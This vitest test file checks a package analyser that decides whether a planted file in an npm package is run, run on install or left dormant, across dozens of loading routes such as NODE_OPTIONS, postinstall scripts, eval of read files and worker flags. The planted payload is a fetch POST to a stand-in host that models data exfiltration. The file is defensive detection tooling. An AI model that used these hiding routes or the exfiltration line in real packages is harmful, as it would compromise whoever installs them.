// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the code under test holds them.
import { describe, expect, it } from 'vitest'
import { extractBehaviour } from '../../src/extract/extract.js'
import { artifactOf } from '../support/artifact.js'

/** What counts as reached: every way in which Node is told to run a file of the package. */
const PAYLOAD = "fetch('https://relay.tapline.invalid/x', { method: 'POST', body: 'x' })\n"
function at(files: Record<string, string>, manifest: object, path: string) {
  const behaviour = extractBehaviour(
    artifactOf({
      'package.json': JSON.stringify({ name: 'own', version: '1.0.0', type: 'module', ...manifest }),
      ...files,
      [path]: PAYLOAD,
    }),
  )
  return behaviour.facts.find((fact) => fact.kind === 'net.host' && fact.value.includes('tapline'))?.reach
}
const M = { main: 'dist/index.js' }
const A = 'dist/tools/a.js'
const code: [string, string][] = [
  ['require', "require('./tools/a')"],
  [
    'createRequire',
    "import { createRequire } from 'node:module'\nconst r = createRequire(import.meta.url)\nr('./tools/a.js')",
  ],
  [
    'createRequire require.resolve',
    "import { createRequire } from 'node:module'\nconst r = createRequire(import.meta.url)\nspawnIt(r.resolve('./tools/a.js'))",
  ],
  ['require.resolve', "const p = require.resolve('./tools/a')\nrun(p)"],
  ['import.meta.resolve', "const p = import.meta.resolve('./tools/a.js')\nrun(p)"],
  ['new URL', "const u = new URL('./tools/a.js', import.meta.url)\nrun(u)"],
  [
    'tinypool',
    "import { Tinypool } from 'tinypool'\nconst p = new Tinypool({ filename: new URL('./tools/a.js', import.meta.url).href })",
  ],
  [
    'piscina path',
    "import path from 'node:path'\nimport Piscina from 'piscina'\nnew Piscina({ filename: path.resolve(__dirname, 'tools/a.js') })",
  ],
  [
    'cluster',
    "import cluster from 'node:cluster'\nimport path from 'node:path'\ncluster.setupPrimary({ exec: path.join(import.meta.dirname, 'tools', 'a.js') })\ncluster.fork()",
  ],
  [
    'spawn execPath',
    "import { spawn } from 'node:child_process'\nimport path from 'node:path'\nspawn(process.execPath, [path.join(__dirname, 'tools', 'a.js')])",
  ],
  [
    'spawn no ext',
    "import { spawn } from 'node:child_process'\nimport path from 'node:path'\nspawn(process.execPath, [path.join(__dirname, 'tools', 'a')])",
  ],
  [
    'spawn exec shell',
    "import { exec } from 'node:child_process'\nimport path from 'node:path'\nexec(`node ${path.join(__dirname, 'tools', 'a.js')} --x`)",
  ],
  [
    'spawn --require',
    "import { spawn } from 'node:child_process'\nimport path from 'node:path'\nspawn('node', ['--require', path.join(__dirname, 'tools/a.js'), 'other.js'])",
  ],
  [
    'spawn --import=',
    "import { spawn } from 'node:child_process'\nimport path from 'node:path'\nspawn('node', [`--import=${new URL('./tools/a.js', import.meta.url)}`, 'other.js'])",
  ],
  [
    'spawn --import=join',
    "import { spawn } from 'node:child_process'\nimport path from 'node:path'\nspawn('node', ['--import=' + path.join(__dirname, 'tools/a.js'), 'other.js'])",
  ],
  [
    'NODE_OPTIONS',
    "import { spawn } from 'node:child_process'\nimport path from 'node:path'\nspawn('node', ['x.js'], { env: { ...process.env, NODE_OPTIONS: `--require ${path.join(__dirname, 'tools/a.js')}` } })",
  ],
  [
    'NODE_OPTIONS assign',
    "import path from 'node:path'\nprocess.env.NODE_OPTIONS = '--require ' + path.join(__dirname, 'tools/a.js')",
  ],
  [
    'execArgv',
    "import { fork } from 'node:child_process'\nimport path from 'node:path'\nfork('other.js', [], { execArgv: ['--import', path.join(__dirname, 'tools/a.js')] })",
  ],
  [
    'worker execArgv',
    "import { Worker } from 'node:worker_threads'\nimport path from 'node:path'\nnew Worker('./other.js', { execArgv: ['-r', path.join(__dirname, 'tools/a.js')] })",
  ],
  ['module.register', "import { register } from 'node:module'\nregister('./tools/a.js', import.meta.url)"],
  ['module.register ns', "import * as m from 'node:module'\nm.register(new URL('./tools/a.js', import.meta.url))"],
  ['self reference', "import 'own/dist/tools/a.js'"],
  ['suffix', "const v = process.version\nrequire('./tools/' + v)"],
  [
    'read and eval',
    "import fs from 'node:fs'\nimport path from 'node:path'\neval(fs.readFileSync(path.join(__dirname, 'tools/a.js'), 'utf8'))",
  ],
  [
    'copied and run',
    "import fs from 'node:fs'\nimport os from 'node:os'\nimport path from 'node:path'\nimport { spawn } from 'node:child_process'\nconst t = path.join(os.tmpdir(), 'x.js')\nfs.copyFileSync(path.join(__dirname, 'tools/a.js'), t)\nspawn('node', [t])",
  ],
  ['dynamic constant', "const n = './tools/a.js'\nawait import(n)"],
  [
    'readdir loop',
    "import fs from 'node:fs'\nimport path from 'node:path'\nconst dir = path.join(__dirname, 'tools')\nfor (const f of fs.readdirSync(dir)) require(path.join(dir, f))",
  ],
  [
    'Module._load',
    "import Module from 'node:module'\nimport path from 'node:path'\nModule._load(path.join(__dirname, 'tools/a.js'))",
  ],
  ['module.require', "module.require('./tools/a.js')"],
  ['process.mainModule.require', "process.mainModule.require('./tools/a.js')"],
  ['require.main.require', "require.main.require('./tools/a.js')"],
  ['global require', "globalThis.require('./tools/a.js')"],
  [
    'fork url',
    "import { fork } from 'node:child_process'\nimport { fileURLToPath } from 'node:url'\nfork(fileURLToPath(new URL('./tools/a.js', import.meta.url)))",
  ],
  ['execa node', "import { execaNode } from 'execa'\nexecaNode(new URL('./tools/a.js', import.meta.url))"],
  [
    'execFile script',
    "import { execFile } from 'node:child_process'\nimport { fileURLToPath } from 'node:url'\nimport { dirname, resolve } from 'node:path'\nconst __filename = fileURLToPath(import.meta.url)\nconst __dirname = dirname(__filename)\nexecFile('node', [resolve(__dirname, './tools/a.js')])",
  ],
  ['Bun.spawn', "Bun.spawn(['bun', import.meta.dir + '/tools/a.js'])"],
  [
    'SourceTextModule',
    "import fs from 'node:fs'\nimport vm from 'node:vm'\nnew vm.Script(fs.readFileSync(require.resolve('./tools/a.js'), 'utf8')).runInThisContext()",
  ],
  [
    'pm2 script',
    "import pm2 from 'pm2'\nimport path from 'node:path'\npm2.start({ script: path.join(__dirname, 'tools/a.js') })",
  ],
  ['export star', "export * from './tools/a.js'"],
  ['require.resolve of own', "import { fork } from 'node:child_process'\nfork(require.resolve('own/dist/tools/a.js'))"],
  [
    'spawn of --eval require',
    "import { spawn } from 'node:child_process'\nspawn('node', ['-e', `require('./dist/tools/a.js')`])",
  ],
]
const AT_ODDS = [
  [
    'page that is served',
    "import express from 'express'\nimport path from 'node:path'\nconst app = express()\napp.use(express.static(path.join(__dirname, 'tools')))",
  ],
  [
    'text that is read and sent',
    "import fs from 'node:fs'\nimport path from 'node:path'\nimport http from 'node:http'\nconst text = fs.readFileSync(path.join(__dirname, 'tools/a.js'), 'utf8')\nhttp.createServer((q, r) => r.end(text)).listen(3000)",
  ],
  [
    'path that is only looked for',
    "import fs from 'node:fs'\nimport path from 'node:path'\nif (fs.existsSync(path.join(__dirname, 'tools/a.js'))) console.log('built')",
  ],
] as const

describe('code that runs a file', () => {
  it.each(code)('%s', (_title, index) => {
    expect(at({ 'dist/index.js': index }, M, A)).toBe('runs')
  })
  it.each(AT_ODDS)('leaves a %s dormant', (_title, index) => {
    expect(at({ 'dist/index.js': index }, M, A)).toBe('dormant')
  })
})
describe('ways in that the manifest names', () => {
  const I = 'export const a = 1'
  it.each<[string, Record<string, string>, object, string]>([
    ['exports string', {}, { exports: './x/p.js' }, 'x/p.js'],
    ['exports node', {}, { exports: { '.': { node: './x/p.js', default: './i.js' } } }, 'x/p.js'],
    ['exports nested', {}, { exports: { '.': { import: { types: './a.d.ts', default: './x/p.mjs' } } } }, 'x/p.mjs'],
    ['exports pattern', {}, { exports: { './*': './x/*.js' } }, 'x/p.js'],
    ['exports pattern no ext', {}, { exports: { './*': './x/*' } }, 'x/p.js'],
    ['exports dir slash', {}, { exports: { './x/': './x/' } }, 'x/p.js'],
    ['exports array', {}, { exports: { '.': ['./x/p.js', './i.js'] } }, 'x/p.js'],
    ['main dir', {}, { main: 'x' }, 'x/index.js'],
    ['main beside exports', { 'i.js': I }, { exports: './i.js', main: './x/p.js' }, 'x/p.js'],
    ['module only', {}, { module: './x/p.js' }, 'x/p.js'],
    ['module beside main', { 'i.js': I }, { main: './i.js', module: './x/p.js' }, 'x/p.js'],
    ['bin string', {}, { bin: './x/p.js' }, 'x/p.js'],
    ['bin map', {}, { bin: { a: 'x/p' } }, 'x/p.js'],
    ['bin no ext file', {}, { bin: 'x/p' }, 'x/p'],
    ['directories.bin', {}, { directories: { bin: 'x' } }, 'x/p.js'],
    ['bin dir', {}, { bin: './x' }, 'x/index.js'],
    ['bin backslash', {}, { bin: '.\\x\\p.js' }, 'x/p.js'],
    [
      'bin requires template',
      { 'bin/cli.js': "require('../dist/' + process.platform)" },
      { bin: 'bin/cli.js' },
      'dist/linux.js',
    ],
    [
      'bin requires template prefix',
      { 'bin/cli.js': "require('../dist/run-' + process.platform)" },
      { bin: 'bin/cli.js' },
      'dist/run-linux.js',
    ],
    [
      'bin requires template prefix ext',
      { 'bin/cli.js': 'require(`../dist/run-${process.platform}.js`)' },
      { bin: 'bin/cli.js' },
      'dist/run-linux.js',
    ],
    ['imports', { 'i.js': "import '#x'" }, { main: 'i.js', imports: { '#x': './x/p.js' } }, 'x/p.js'],
    [
      'imports conditions',
      { 'i.js': "import '#x'" },
      { main: 'i.js', imports: { '#x': { node: './x/p.js', default: './q.js' } } },
      'x/p.js',
    ],
    [
      'imports both conditions',
      { 'i.js': "import '#x'", 'q.js': I },
      { main: 'i.js', imports: { '#x': { import: './q.js', require: './x/p.js' } } },
      'x/p.js',
    ],
    ['imports pattern', { 'i.js': "import '#x/p'" }, { main: 'i.js', imports: { '#x/*': './x/*.js' } }, 'x/p.js'],
    [
      'imports computed',
      { 'i.js': 'await import(`#x/${process.platform}`)' },
      { main: 'i.js', imports: { '#x/*': './x/*.js' } },
      'x/p.js',
    ],
    [
      'self sub',
      { 'i.js': "import 'own/sub'" },
      { main: 'i.js', exports: { '.': './i.js', './sub': './x/p.js' } },
      'x/p.js',
    ],
    ['self computed', { 'i.js': "await import('own/' + process.platform)" }, { main: 'i.js' }, 'x/p.js'],
    ['script start', { 'i.js': I }, { scripts: { start: 'node x/p.js' } }, 'x/p.js'],
    ['postinstall', { 'i.js': I }, { main: 'i.js', scripts: { postinstall: 'node x/p.js' } }, 'x/p.js'],
    [
      'package.json in subfolder main',
      { 'i.js': "import './x'", 'x/package.json': '{"main":"lib/p.js"}' },
      { main: 'i.js' },
      'x/lib/p.js',
    ],
    [
      'nested node_modules main',
      { 'i.js': "import 'dep'", 'node_modules/dep/package.json': '{"main":"lib/p.js"}' },
      { main: 'i.js' },
      'node_modules/dep/lib/p.js',
    ],
    [
      'nested node_modules exports',
      { 'i.js': "import 'dep/sub'", 'node_modules/dep/package.json': '{"exports":{"./sub":"./lib/p.js"}}' },
      { main: 'i.js' },
      'node_modules/dep/lib/p.js',
    ],
    [
      'nested deps from inner',
      {
        'i.js': "import 'dep'",
        'node_modules/dep/package.json': '{"main":"m.js"}',
        'node_modules/dep/m.js': "require('sub')",
      },
      { main: 'i.js' },
      'node_modules/dep/node_modules/sub/index.js',
    ],
    [
      'nested node_modules in sub folder',
      { 'dist/i.js': "import 'dep'" },
      { main: 'dist/i.js' },
      'dist/node_modules/dep/index.js',
    ],
    ['file of JSX', { 'i.js': "import './x/p'" }, { main: 'i.js' }, 'x/p.jsx'],
    ['require of odd extension', { 'i.js': "require('./x/p.txt')" }, { main: 'i.js' }, 'x/p.txt'],
    [
      'spawn node odd extension',
      { 'i.js': "import {spawn} from 'node:child_process'\nspawn('node', ['./x/p.dat'])" },
      { main: 'i.js' },
      'x/p.dat',
    ],
    ['require of extensionless', { 'i.js': "require('./x/p')" }, { main: 'i.js' }, 'x/p'],
    ['bin that is a shell script', { 'run.sh': 'exec node "$(dirname "$0")/x/p.js"' }, { bin: 'run.sh' }, 'x/p.js'],
  ])('%s', (_title, files, manifest, path) => {
    expect(at(files, manifest, path)).toMatch(/^(?:runs|install)$/)
  })

  it('leaves what only `npm start` runs dormant where the package is started or imported otherwise', () => {
    expect(at({ 'i.js': '' }, { main: 'i.js', scripts: { start: 'node x/p.js' } }, 'x/p.js')).toBe('dormant')
  })

  it('reads what is reached as code, whatever its name ends in, and leaves data alone', () => {
    const behaviour = extractBehaviour(
      artifactOf({
        'package.json': JSON.stringify({ name: 'own', version: '1.0.0', main: 'i.js' }),
        'i.js': "require('./notes.txt')\nrequire('./broken.css')\nrequire('./words.json')",
        'notes.txt': `require('./deeper.dat')\n${PAYLOAD}`,
        'deeper.dat': PAYLOAD.replace('relay', 'deep'),
        'broken.css': '.a { color: red }',
        'words.json': '["a"]',
      }),
    )
    expect(behaviour.facts.filter(({ kind }) => kind === 'net.host').map(({ value }) => value)).toEqual([
      'deep.tapline.invalid',
      'relay.tapline.invalid',
    ])
    expect(behaviour.unanalysed).toEqual([])
  })
})
